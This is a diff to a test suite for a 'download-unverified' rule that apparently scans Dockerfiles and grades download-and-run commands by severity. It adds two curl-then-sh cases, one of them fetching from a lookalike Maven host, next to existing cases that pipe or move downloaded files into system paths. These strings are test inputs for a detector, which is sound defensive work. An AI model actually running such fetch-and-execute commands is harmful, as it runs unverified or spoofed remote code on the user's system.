@@ -301,6 +301,8 @@ describe('download-unverified', () => {
     [`curl ${URL}.tgz | tar xz -C /usr/local`, 'medium'],
     [`curl -o x ${URL} && mv x /usr/bin/`, 'medium'],
     [`git clone ${REPOSITORY} && sh tool/install.sh`, 'medium'],
+    ['curl -o x.sh https://repo1.maven.org/maven2/io/acme/run/1.3/run-1.3.sh && sh x.sh', 'medium'],
+    ['curl -o x.sh https://repo1.maven.org.example.com/maven2/run-1.3.sh && sh x.sh', 'high'],
   ])('is as severe as a pipe into a shell where an interpreter runs the file: %s', (script, severity) => {
     const { findings } = checkText(rule, 'Dockerfile', `FROM debian:12\nRUN ${script}\n`);
     expect(findings.map((finding) => finding.severity)).toEqual([severity]);
